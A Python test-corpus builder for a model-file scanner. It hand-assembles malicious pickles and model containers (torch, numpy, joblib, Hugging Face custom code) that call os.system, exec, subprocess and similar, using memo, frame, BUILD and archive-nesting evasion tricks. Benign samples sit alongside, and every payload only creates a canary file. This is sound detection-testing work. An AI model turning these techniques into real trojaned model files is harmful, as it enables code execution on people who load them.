"""Test corpus for the model-file scanner: malicious pickles and containers, and benign model files.

Safety: nothing here unpickles or loads a malicious file. Malicious pickles are hand-assembled
opcode by opcode, or written by a *pickler* (dumping never runs a ``__reduce__`` result). The only
effect any payload could have, if something ever loaded it, is to create the ``canary`` file, so a
test can assert that the canary never appears.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickletools
import runpy
import shlex
import string
import struct
import subprocess
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from pickle import (
    APPEND,
    APPENDS,
    BINBYTES,
    BINGET,
    BINPERSID,
    BINPUT,
    BINUNICODE,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    EXT1,
    EXT2,
    EXT4,
    FRAME,
    GLOBAL,
    INST,
    LIST,
    LONG_BINGET,
    LONG_BINPUT,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    PERSID,
    POP,
    PROTO,
    REDUCE,
    SETITEM,
    SETITEMS,
    SHORT_BINUNICODE,
    STACK_GLOBAL,
    STOP,
    STRING,
    TUPLE,
    TUPLE1,
    TUPLE2,
    TUPLE3,
    UNICODE,
    Pickler,
)

import numpy as np
import torch
from safetensors.torch import save_file

try:
    import joblib
except ImportError:  # pragma: no cover - joblib comes with scikit-learn
    joblib = None


@dataclass(frozen=True)
class Sample:
    """One corpus entry. ``expected_import`` is the dangerous global (``module.name`` exactly as
    spelled in the bytes) a correct scanner must report; None for benign samples and for the
    malicious ones that name no global (extension codes, custom code): see ``technique``."""

    name: str
    path: Path
    malicious: bool
    technique: str
    expected_import: str | None


# --- pickle assembly -----------------------------------------------------------------------------


def _u(text: str, proto: int) -> bytes:
    """Push a str with the opcode the real pickler uses at this protocol."""
    data = text.encode()
    if proto >= 4 and len(data) < 256:
        return SHORT_BINUNICODE + bytes([len(data)]) + data
    if proto >= 1:
        return BINUNICODE + struct.pack("<I", len(data)) + data
    return UNICODE + text.encode("raw-unicode-escape") + b"\n"


def _s0(text: str) -> bytes:
    """Protocol 0 quoted STRING (ASCII)."""
    return STRING + repr(text).encode("ascii") + b"\n"


def _global(module: str, name: str, proto: int) -> bytes:
    """GLOBAL below protocol 4, STACK_GLOBAL (two short unicode pushes, memoized) from 4 on."""
    if proto >= 4:
        return _u(module, 4) + MEMOIZE + _u(name, 4) + MEMOIZE + STACK_GLOBAL
    return GLOBAL + f"{module}\n{name}\n".encode()


def _tuple(items: list[bytes], proto: int) -> bytes:
    if not items:
        return EMPTY_TUPLE if proto >= 1 else MARK + TUPLE
    if proto >= 2 and len(items) <= 3:
        return b"".join(items) + (TUPLE1, TUPLE2, TUPLE3)[len(items) - 1]
    return MARK + b"".join(items) + TUPLE


def _call(func: bytes, args: list[bytes], proto: int) -> bytes:
    """``func(*args)`` via REDUCE."""
    return func + _tuple(args, proto) + REDUCE


def _frame(body: bytes) -> bytes:
    return FRAME + struct.pack("<Q", len(body)) + body


def _wrap(body: bytes, proto: int, frame: bool = True, stop: bool = True) -> bytes:
    """PROTO header (protocol 2+), one FRAME around everything (protocol 4+) and STOP."""
    if stop:
        body += STOP
    if proto >= 4 and frame:
        body = _frame(body)
    return (PROTO + bytes([proto]) if proto >= 2 else b"") + body


def _prepend(pickled: bytes, payload: bytes) -> bytes:
    """Run ``payload`` (pushes one value), drop its result, then the original unframed pickle."""
    if pickled[:1] != PROTO or pickled[1] > 3:
        raise ValueError("expected an unframed pickle with a PROTO header")
    return pickled[:2] + payload + POP + pickled[2:]


def _pickle_spans(data: bytes, count: int) -> list[tuple[int, int]]:
    """Byte spans of the first ``count`` consecutive pickles (static parse, nothing runs)."""
    stream = io.BytesIO(data)
    spans = []
    for _ in range(count):
        start = stream.tell()
        for _op in pickletools.genops(stream):
            pass
        spans.append((start, stream.tell()))
    return spans


class _Reduce:
    """Dumped by a real pickler as ``func(*args)``; only ever pickled, never called here."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.func, self.args


def _dumps(obj: object, protocol: int) -> bytes:
    buf = io.BytesIO()
    Pickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


# --- containers ----------------------------------------------------------------------------------


def _zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def _targz_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return gzip.compress(buf.getvalue(), mtime=0)


def _torch_members(obj: object) -> list[tuple[str, bytes]]:
    """Members of a real ``torch.save`` zip (root ``archive/``, as when saving to a buffer)."""
    buf = io.BytesIO()
    torch.save(obj, buf)
    with zipfile.ZipFile(buf) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def _torch_legacy(obj: object) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def _npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    """Format 1.0 header, padded with spaces so the data starts on a 64-byte boundary."""
    header = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1")


def _npy_bytes(array: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=False)
    return buf.getvalue()


def _small_convnet() -> torch.nn.Module:
    with torch.random.fork_rng(devices=[]):
        torch.manual_seed(0)
        return torch.nn.Sequential(
            torch.nn.Conv2d(1, 4, 3),
            torch.nn.BatchNorm2d(4),
            torch.nn.ReLU(),
            torch.nn.Flatten(),
            torch.nn.Linear(4 * 6 * 6, 10),
        )


_SAFE_PATH_CHARS = frozenset(string.ascii_letters + string.digits + " ._/+-@=,:~")

_EVIL_MODELING = '''"""Custom modeling code (trojanscope test corpus): importing it creates
the canary."""

open({canary!r}, "w").close()


class EvilModel:
    """Stand-in for a transformers PreTrainedModel subclass."""
'''


# --- the corpus ----------------------------------------------------------------------------------


class _Corpus:
    def __init__(self, folder: Path, canary: Path) -> None:
        path = str(canary.absolute())
        if not set(path) <= _SAFE_PATH_CHARS:
            raise ValueError(f"canary path must be plain ASCII without quotes: {path!r}")
        self.folder = folder
        self.canary = path
        self.shell = f"touch {shlex.quote(path)}"
        self.code = f"open({path!r}, 'w').close()"
        self.argv = ("touch", path)
        self.samples: list[Sample] = []
        self.sd = _small_convnet().state_dict()

    def add(self, name: str, path: Path, technique: str, expected: str | None, bad: bool) -> None:
        self.samples.append(Sample(name, path, bad, technique, expected))

    def file(
        self,
        name: str,
        data: bytes,
        technique: str,
        expected: str | None,
        filename: str | None = None,
        bad: bool = True,
    ) -> None:
        """Write ``data`` to ``<name>.pkl``, or to ``<name>/<filename>`` when the name matters."""
        if filename is None:
            path = self.folder / f"{name}.pkl"
        else:
            path = self.folder / name / filename
            path.parent.mkdir()
        path.write_bytes(data)
        self.add(name, path, technique, expected, bad)

    # payload fragments: each pushes exactly one value (the call's result)
    def system(self, module: str, proto: int) -> bytes:
        return _call(_global(module, "system", proto), [_u(self.shell, proto)], proto)

    def argv_tuple(self, proto: int) -> bytes:
        return _tuple([_u(a, proto) for a in self.argv], proto)

    def protocols(self) -> None:
        for proto in range(6):
            for module in ("os", "posix"):
                arg = _u(self.shell, proto)
                extra = ""
                if proto == 0 and module == "os":
                    arg, extra = _s0(self.shell), ", quoted STRING argument"
                elif proto == 3 and module == "os":
                    data = self.shell.encode()
                    arg = BINBYTES + struct.pack("<I", len(data)) + data
                    extra = ", BINBYTES argument"
                body = _call(_global(module, "system", proto), [arg], proto)
                op = "STACK_GLOBAL" if proto >= 4 else "GLOBAL"
                self.file(
                    f"pickle-p{proto}-{module}-system",
                    _wrap(body, proto),
                    f"protocol {proto}: {op} {module}.system + REDUCE{extra}",
                    f"{module}.system",
                )
        self.file(
            "pickle-p4-pickler-reduce",
            _dumps(_Reduce(os.system, self.shell), 4),
            "real pickler output for a __reduce__ returning os.system (module as the pickler "
            "names it on this platform)",
            f"{os.system.__module__}.system",
        )

    def callables(self) -> None:
        code, p = self.code, _u
        self.file(
            "pickle-builtins-exec",
            _wrap(_call(_global("builtins", "exec", 4), [p(code, 4)], 4), 4),
            "builtins.exec of a code string (protocol 4)",
            "builtins.exec",
        )
        self.file(
            "pickle-builtins-eval",
            _wrap(_call(_global("builtins", "eval", 2), [p(code, 2)], 2), 2),
            "builtins.eval of an expression string (protocol 2)",
            "builtins.eval",
        )
        self.file(
            "pickle-py2-builtin-eval",
            _wrap(_call(_global("__builtin__", "eval", 2), [p(code, 2)], 2), 2),
            "Python 2 module name __builtin__.eval (fix_imports maps it to builtins.eval)",
            "__builtin__.eval",
        )
        self.file(
            "pickle-subprocess-popen",
            _wrap(_call(_global("subprocess", "Popen", 2), [self.argv_tuple(2)], 2), 2),
            "subprocess.Popen(('touch', canary)) via REDUCE",
            "subprocess.Popen",
        )
        self.file(
            "pickle-subprocess-call",
            _wrap(_call(_global("subprocess", "call", 4), [self.argv_tuple(4)], 4), 4),
            "subprocess.call(('touch', canary)) via STACK_GLOBAL + REDUCE",
            "subprocess.call",
        )
        self.file(
            "pickle-runpy-run-code",
            _wrap(_call(_global("runpy", "_run_code", 3), [p(code, 3), EMPTY_DICT], 3), 3),
            "runpy._run_code(code_string, {}) (exec in disguise)",
            "runpy._run_code",
        )
        # getattr(import_module("os"), "system")(shell): "os.system" only appears as strings
        module = _call(_global("importlib", "import_module", 2), [p("os", 2)], 2)
        func = _call(_global("builtins", "getattr", 2), [module, p("system", 2)], 2)
        self.file(
            "pickle-indirect-getattr-import-module",
            _wrap(_call(func, [p(self.shell, 2)], 2), 2),
            "indirect callable: builtins.getattr(importlib.import_module('os'), 'system') then "
            "REDUCE; importlib.import_module is imported too",
            "builtins.getattr",
        )
        module = _call(_global("builtins", "__import__", 4), [p("posix", 4)], 4)
        func = _call(_global("builtins", "getattr", 4), [module, p("system", 4)], 4)
        self.file(
            "pickle-indirect-getattr-dunder-import",
            _wrap(_call(func, [p(self.shell, 4)], 4), 4),
            "indirect callable: builtins.getattr(builtins.__import__('posix'), 'system') then "
            "REDUCE; builtins.getattr is imported too",
            "builtins.__import__",
        )

    def memo_and_frames(self) -> None:
        p, call_tail = _u, _u(self.shell, 4) + TUPLE1 + REDUCE
        # a config dict memoizes the strings (MEMOIZE indices 0..4), it is popped, and the
        # STACK_GLOBAL later takes its operands from the memo
        config = EMPTY_DICT + MEMOIZE + MARK
        for text in ("module", "os", "attribute", "system"):
            config += p(text, 4) + MEMOIZE
        body = config + SETITEMS + POP + BINGET + b"\x02" + BINGET + b"\x04" + STACK_GLOBAL
        self.file(
            "pickle-memo-memoize-binget",
            _wrap(body + call_tail, 4),
            "STACK_GLOBAL operands from the memo: strings MEMOIZEd inside a discarded dict "
            "(implicit indices 2 and 4), fetched back with BINGET",
            "os.system",
        )
        body = p("posix", 4) + LONG_BINPUT + struct.pack("<I", 70000) + POP
        body += p("system", 4) + LONG_BINPUT + struct.pack("<I", 70001) + POP
        body += LONG_BINGET + struct.pack("<I", 70000) + LONG_BINGET + struct.pack("<I", 70001)
        self.file(
            "pickle-memo-long-binget",
            _wrap(body + STACK_GLOBAL + call_tail, 4),
            "STACK_GLOBAL operands stored with LONG_BINPUT at sparse indices 70000/70001, "
            "fetched with LONG_BINGET",
            "posix.system",
        )
        body = b""
        for index, text in enumerate(("builtins", "len")):
            body += p(text, 4) + BINPUT + bytes([index]) + POP
        for index, text in enumerate(("os", "system")):
            body += p(text, 4) + BINPUT + bytes([index]) + POP
        body += BINGET + b"\x00" + BINGET + b"\x01" + STACK_GLOBAL
        self.file(
            "pickle-memo-overwrite",
            _wrap(body + call_tail, 4),
            "memo slots 0/1 first hold 'builtins'/'len' (decoy), then are overwritten with "
            "'os'/'system' before BINGET + STACK_GLOBAL: the last write wins",
            "os.system",
        )
        chunks = [p("os", 4) + MEMOIZE, p("system", 4) + MEMOIZE, STACK_GLOBAL + call_tail + STOP]
        self.file(
            "pickle-frame-split",
            PROTO + b"\x04" + b"".join(_frame(c) for c in chunks),
            "module string, name string and STACK_GLOBAL + REDUCE each in its own FRAME",
            "os.system",
        )
        body = _frame(b"") + p("posix", 4) + _frame(b"") + p("system", 4) + _frame(b"")
        self.file(
            "pickle-frame-zero-length",
            PROTO + b"\x04" + body + STACK_GLOBAL + call_tail + STOP,
            "FRAME opcodes declaring length 0 interleaved with the payload (both unpicklers "
            "accept it; a scanner must not trust frame lengths)",
            "posix.system",
        )

    def object_opcodes(self) -> None:
        p = _u
        self.file(
            "pickle-inst-os-system",
            MARK + _s0(self.shell) + INST + b"os\nsystem\n" + STOP,
            "protocol 0 INST: MARK, argument, 'ios\\nsystem\\n' (calls os.system(arg))",
            "os.system",
        )
        self.file(
            "pickle-obj-posix-system",
            MARK + _global("posix", "system", 1) + p(self.shell, 1) + OBJ + STOP,
            "protocol 1 OBJ: MARK, GLOBAL posix.system, argument, OBJ",
            "posix.system",
        )
        self.file(
            "pickle-newobj-popen",
            _wrap(_global("subprocess", "Popen", 2) + _tuple([self.argv_tuple(2)], 2) + NEWOBJ, 2),
            "NEWOBJ on subprocess.Popen with an args tuple (cls.__new__ only: dangerous "
            "import, the command itself would not start)",
            "subprocess.Popen",
        )
        self.file(
            "pickle-newobj-ex-popen",
            _wrap(
                _global("subprocess", "Popen", 4)
                + _tuple([self.argv_tuple(4)], 4)
                + EMPTY_DICT
                + NEWOBJ_EX,
                4,
            ),
            "NEWOBJ_EX on subprocess.Popen with args tuple and empty kwargs",
            "subprocess.Popen",
        )
        # NEWOBJ a SimpleNamespace, BUILD {'__setstate__': os.system} into its __dict__, then a
        # second BUILD calls inst.__setstate__(shell), i.e. os.system(shell): no REDUCE at all
        inst = _global("types", "SimpleNamespace", 2) + EMPTY_TUPLE + NEWOBJ
        state = EMPTY_DICT + p("__setstate__", 2) + _global("os", "system", 2) + SETITEM
        self.file(
            "pickle-build-setstate-injection",
            _wrap(inst + state + BUILD + p(self.shell, 2) + BUILD, 2),
            "BUILD injects os.system as the instance's __setstate__, a second BUILD calls it",
            "os.system",
        )
        state = EMPTY_DICT + MARK + p("args", 2) + self.argv_tuple(2)
        state += p("_child_created", 2) + b"\x89" + SETITEMS  # NEWFALSE
        self.file(
            "pickle-build-popen-state",
            _wrap(_global("subprocess", "Popen", 2) + EMPTY_TUPLE + NEWOBJ + state + BUILD, 2),
            "BUILD with a state dict on a subprocess.Popen instance (NEWOBJ, no __init__)",
            "subprocess.Popen",
        )

    def ext_and_persid(self) -> None:
        p = _u
        for op, proto, code, arg in (
            ("1", 2, 0xF0, EXT1 + bytes([0xF0])),
            ("2", 2, 0x1234, EXT2 + struct.pack("<H", 0x1234)),
            ("4", 4, 0x0BADC0DE, EXT4 + struct.pack("<i", 0x0BADC0DE)),
        ):
            self.file(
                f"pickle-ext{op}",
                _wrap(_call(arg, [p(self.shell, proto)], proto), proto),
                f"EXT{op} extension code {code:#x} (unregistered in a stock copyreg registry; "
                "the bytes name no module) + REDUCE with a shell command: flag unresolvable "
                "extension codes",
                None,
            )
        body = MARK + LIST + self.system("os", 0) + APPEND + PERSID + b"storage0\n" + APPEND
        self.file(
            "pickle-persid-p0",
            body + STOP,
            "protocol 0 list holding an os.system REDUCE and a PERSID 'storage0'",
            "os.system",
        )
        pid = MARK + p("storage", 2) + self.system("posix", 2) + p("0", 2) + p("cpu", 2)
        pid += b"K\x04" + TUPLE + BINPERSID  # BININT1 4
        self.file(
            "pickle-binpersid-p2",
            _wrap(pid, 2),
            "posix.system REDUCE nested inside a torch-style persistent id tuple fed to BINPERSID",
            "posix.system",
        )

    def prefix_and_broken(self) -> None:
        layers = OrderedDict(
            (f"layer{i}.{kind}", np.full((4, 4) if kind == "weight" else (4,), i, np.float32))
            for i in range(3)
            for kind in ("weight", "bias")
        )
        layers["config"] = {
            "hidden": [16, 32],
            "blocks": [{"act": "relu"}, {"act": ("gelu", _Reduce(os.system, self.shell))}],
        }
        self.file(
            "pickle-benign-prefix",
            _dumps(layers, 4),
            "OrderedDict of numpy arrays (numpy _reconstruct rebuilds), then an os.system "
            "REDUCE nested in config.blocks[1].act (real pickler, protocol 4)",
            f"{os.system.__module__}.system",
        )
        self.file(
            "pickle-garbage-after-reduce",
            _wrap(self.system("os", 2), 2, stop=False) + b"\xff\xfe garbage \x00\x01",
            "valid os.system REDUCE, then bytes that are no opcode (0xff): the scan must "
            "report the import and never say clean",
            "os.system",
        )
        self.file(
            "pickle-truncated-after-reduce",
            _wrap(self.system("posix", 2), 2, stop=False) + BINUNICODE + b"\x00\x00\x10\x00abc",
            "valid posix.system REDUCE, then a BINUNICODE announcing 1 MiB and the file ends",
            "posix.system",
        )
        self.file(
            "pickle-no-stop",
            _wrap(self.system("os", 4), 4, frame=False, stop=False),
            "protocol 4 os.system REDUCE and the file ends without STOP",
            "os.system",
        )

    def torch_files(self) -> None:
        p = _u
        members = _torch_members(self.sd)
        swapped = [
            (n, _wrap(self.system("os", 2), 2) if n == "archive/data.pkl" else d)
            for n, d in members
        ]
        self.file(
            "torch-zip-data-pkl-swapped",
            _zip_bytes(swapped),
            "torch.save zip (archive/...) whose data.pkl is replaced by an os.system pickle",
            "os.system",
            filename="model.pt",
        )
        checkpoint = {
            "state_dict": self.sd,
            "epoch": 3,
            "callbacks": [_Reduce(subprocess.call, self.argv)],
        }
        self.file(
            "torch-zip-benign-prefix",
            _zip_bytes(_torch_members(checkpoint)),
            "real torch.save checkpoint: state_dict tensors first, then subprocess.call nested in "
            "'callbacks'; torch pickles at protocol 2, so fix_imports spells it commands.call",
            "commands.call",
            filename="checkpoint.pth",
        )
        exec_code = _call(_global("builtins", "exec", 2), [p(self.code, 2)], 2)
        renamed = []
        for name, data in members:
            if name == "archive/data.pkl":
                renamed.append(("model_final/weights.bin", _prepend(data, exec_code)))
            else:
                renamed.append((name.replace("archive/", "model_final/", 1), data))
        self.file(
            "torch-zip-renamed-members",
            _zip_bytes(renamed),
            "torch zip with root model_final/ and data.pkl renamed weights.bin; the real "
            "state-dict pickle is preceded by a builtins.exec REDUCE whose result is POPped",
            "builtins.exec",
            filename="model_final.pt",
        )
        legacy = _torch_legacy({"state_dict": self.sd, "note": "legacy"})
        spans = _pickle_spans(legacy, 5)
        run_code = _call(_global("runpy", "_run_code", 2), [p(self.code, 2), EMPTY_DICT], 2)
        for index, label, payload, expected in (
            (2, "sysinfo", run_code, "runpy._run_code"),
            (3, "object", self.system("posix", 2), "posix.system"),
            (4, "keys", exec_code, "builtins.exec"),
        ):
            start, end = spans[index]
            data = legacy[:start] + _prepend(legacy[start:end], payload) + legacy[end:]
            self.file(
                f"torch-legacy-{label}-swapped",
                data,
                f"legacy torch.save (5 pickles + raw storages): pickle #{index} ({label}) "
                f"starts with a {expected} REDUCE whose result is POPped, rest intact",
                expected,
                filename="model.pt",
            )

    def numpy_and_joblib(self) -> None:
        self.file(
            "npy-object-dtype",
            _npy_header("|O", (1,)) + _wrap(self.system("os", 4), 4),
            "hand-written .npy header (descr '|O', shape (1,)) followed by an os.system pickle",
            "os.system",
            filename="embedding.npy",
        )
        buf = io.BytesIO()
        evil = np.empty(2, dtype=object)
        evil[0], evil[1] = "tokenizer", _Reduce(runpy._run_code, self.code, {})
        np.save(buf, evil, allow_pickle=True)
        weights = _npy_bytes(np.ones((2, 3), np.float32))
        members = [("weights.npy", weights), ("meta.npy", buf.getvalue())]
        self.file(
            "npz-object-dtype",
            _zip_bytes(members),
            ".npz with a float weights.npy and an object-dtype meta.npy whose element 1 "
            "pickles as runpy._run_code(code, {})",
            "runpy._run_code",
            filename="arrays.npz",
        )
        payload = {"model": _Reduce(subprocess.call, self.argv), "coef": np.arange(8.0)}
        if joblib is not None:
            buf = io.BytesIO()
            joblib.dump(payload, buf)
            data = buf.getvalue()
            how = "joblib.dump (protocol 5, NumpyArrayWrapper + inline array bytes after it)"
        else:  # pragma: no cover
            data = _dumps(payload, 4)
            how = "plain pickle (joblib unavailable)"
        self.file(
            "joblib-reduce",
            data,
            f"{how} of a dict whose 'model' pickles as subprocess.call(('touch', canary))",
            "subprocess.call",
            filename="model.joblib",
        )

    def archives(self) -> None:
        inner = _zip_bytes([("weights.safetensors", _wrap(self.system("os", 2), 2))])
        tar = _targz_bytes([("README.txt", inner)])
        readme = b"Model card: a small classifier. See weights.safetensors.\n"
        self.file(
            "nested-zip-targz-zip",
            _zip_bytes([("README.txt", readme), ("weights.safetensors", tar)]),
            "zip > weights.safetensors (a tar.gz) > README.txt (a zip) > weights.safetensors "
            "(an os.system pickle)",
            "os.system",
            filename="release.zip",
        )
        for filename, proto, payload, expected in (
            (
                "model.safetensors",
                4,
                _call(_global("builtins", "exec", 4), [_u(self.code, 4)], 4),
                "builtins.exec",
            ),
            ("model.onnx", 2, self.system("posix", 2), "posix.system"),
            ("image.png", 0, self.system("os", 0), "os.system"),
            (
                "config.json",
                4,
                _call(_global("subprocess", "Popen", 4), [self.argv_tuple(4)], 4),
                "subprocess.Popen",
            ),
        ):
            kind = filename.rsplit(".", 1)[1]
            self.file(
                f"disguised-{kind}",
                _wrap(payload, proto),
                f"protocol {proto} {expected} pickle named {filename}",
                expected,
                filename=filename,
            )

    def huggingface(self) -> None:
        folder = self.folder / "hf-auto-map-custom-code"
        folder.mkdir()
        config = {
            "architectures": ["EvilModel"],
            "auto_map": {"AutoModel": "modeling_evil.EvilModel"},
            "model_type": "evil",
        }
        (folder / "config.json").write_text(json.dumps(config, indent=2) + "\n")
        (folder / "modeling_evil.py").write_text(_EVIL_MODELING.format(canary=self.canary))
        save_file(dict(self.sd), str(folder / "model.safetensors"))
        self.add(
            "hf-auto-map-custom-code",
            folder,
            "custom code: config.json auto_map -> modeling_evil.EvilModel, and "
            "modeling_evil.py creates the canary when imported (trust_remote_code); weights "
            "are a clean safetensors file",
            None,
            True,
        )
        folder = self.folder / "hf-pytorch-model-bin"
        folder.mkdir()
        (folder / "config.json").write_text(json.dumps(_HF_CONFIG, indent=2) + "\n")
        state = OrderedDict(self.sd)
        state["_extra_state"] = _Reduce(subprocess.Popen, self.argv)
        members = [
            (name.replace("archive/", "pytorch_model/", 1), data)
            for name, data in _torch_members(state)
        ]
        (folder / "pytorch_model.bin").write_bytes(_zip_bytes(members))
        self.add(
            "hf-pytorch-model-bin",
            folder,
            "HF directory: benign config.json, pytorch_model.bin is a torch zip whose state "
            "dict has an '_extra_state' entry pickled as subprocess.Popen(('touch', canary)), "
            "spelled commands.Popen (protocol 2 fix_imports)",
            "commands.Popen",
            True,
        )

    def benign(self) -> None:
        def ok(name: str, path: Path, technique: str) -> None:
            self.add(name, path, technique, None, False)

        folder = self.folder / "benign"
        folder.mkdir()
        path = folder / "convnet.pt"
        torch.save(self.sd, path)
        ok("benign-torch-zip-state-dict", path, "torch.save of a small conv net's state_dict")
        path = folder / "convnet-legacy.pt"
        torch.save(self.sd, path, _use_new_zipfile_serialization=False)
        ok("benign-torch-legacy-state-dict", path, "legacy (non-zip) torch.save of the same")
        path = folder / "checkpoint.pt"
        mixed = {
            "tensors": {"w": torch.linspace(-1, 1, 9).reshape(3, 3), "idx": torch.arange(5)},
            "ordered": OrderedDict([("a", 1), ("b", 2.5)]),
            "epoch": 7,
            "name": "small-convnet",
            "lr": 0.01,
            "history": [0.9, 0.5, 0.25],
        }
        torch.save(mixed, path)
        ok("benign-torch-zip-mixed-dict", path, "torch.save: tensors, OrderedDict, int, str, float")
        path = folder / "convnet.safetensors"
        save_file(dict(self.sd), str(path))
        ok("benign-safetensors", path, "safetensors.torch.save_file of the state_dict")
        path = folder / "floats.npy"
        np.save(path, np.linspace(0, 1, 12, dtype=np.float32).reshape(3, 4))
        ok("benign-npy-float", path, "np.save of a float32 array")
        arrays = {"w": np.eye(3), "b": np.zeros(3, np.float32)}
        path = folder / "arrays.npz"
        np.savez(path, **arrays)
        ok("benign-npz", path, "np.savez of float arrays")
        path = folder / "arrays-compressed.npz"
        np.savez_compressed(path, **arrays)
        ok("benign-npz-compressed", path, "np.savez_compressed of float arrays")
        if joblib is not None:
            path = folder / "arrays.joblib"
            joblib.dump({"coef": np.arange(6.0).reshape(2, 3), "classes": np.array([0, 1])}, path)
            ok("benign-joblib", path, "joblib.dump of a dict of numpy arrays")
        data = [1, -2, 3.5, "text", b"raw", None, True, (1, "a"), {"k": [1, 2]}, {3, 4}]
        for proto in (2, 4):
            path = folder / f"builtins-p{proto}.pkl"
            path.write_bytes(_dumps(data, proto))
            ok(f"benign-pickle-builtins-p{proto}", path, f"builtins data pickled, protocol {proto}")
        path = folder / "hf-model"
        path.mkdir()
        (path / "config.json").write_text(json.dumps(_HF_CONFIG, indent=2) + "\n")
        save_file(dict(self.sd), str(path / "model.safetensors"))
        ok("benign-hf-dir", path, "HF directory: config.json without auto_map + safetensors")


_HF_CONFIG = {"architectures": ["SmallConvNet"], "model_type": "small-convnet", "num_labels": 10}


def build_corpus(folder: Path, canary: Path) -> list[Sample]:
    """Write every sample under ``folder`` (created if missing, should be empty); ``canary`` is
    the file any payload would create."""
    folder.mkdir(parents=True, exist_ok=True)
    corpus = _Corpus(folder, canary)
    corpus.protocols()
    corpus.callables()
    corpus.memo_and_frames()
    corpus.object_opcodes()
    corpus.ext_and_persid()
    corpus.prefix_and_broken()
    corpus.torch_files()
    corpus.numpy_and_joblib()
    corpus.archives()
    corpus.huggingface()
    corpus.benign()
    return corpus.samples


def build_large_benign(folder: Path, records: int = 2_000_000) -> Path:
    """Write a benign, opcode-dense protocol-4 pickle (~54 MB for 2M records): a list of
    ``(int, float, str, {'k': int})`` tuples, framed in chunks of 2048 records."""
    record = np.dtype(
        [("mark", "S1"), ("int_op", "S1"), ("int", "<i4"), ("float_op", "S1"), ("float", ">f8"),
         ("str_op", "S2"), ("str", "S2"), ("dict_op", "S1"), ("key", "S3"), ("value_op", "S1"),
         ("value", "u1"), ("setitem", "S1"), ("tuple", "S1")]
    )  # fmt: skip
    rng = np.random.default_rng(0)
    table = np.empty(records, record)
    table["mark"], table["int_op"], table["float_op"] = MARK, b"J", b"G"
    table["str_op"], table["dict_op"] = SHORT_BINUNICODE + b"\x02", EMPTY_DICT
    table["key"], table["value_op"] = SHORT_BINUNICODE + b"\x01k", b"K"
    table["setitem"], table["tuple"] = SETITEM, TUPLE
    table["int"] = np.arange(records, dtype=np.int64) * 7 - records
    table["float"] = rng.standard_normal(records)
    table["str"] = rng.integers(97, 123, (records, 2), dtype=np.uint8).view("S2").ravel()
    table["value"] = np.arange(records) % 256
    raw = memoryview(table.tobytes())
    size, chunk = record.itemsize, 2048
    path = folder / "large-benign.pkl"
    with path.open("wb") as out:
        out.write(PROTO + b"\x04" + _frame(EMPTY_LIST + MEMOIZE))
        for start in range(0, records, chunk):
            end = min(start + chunk, records)
            tail = APPENDS + (STOP if end == records else b"")
            out.write(_frame(MARK + raw[start * size : end * size] + tail))
    return path
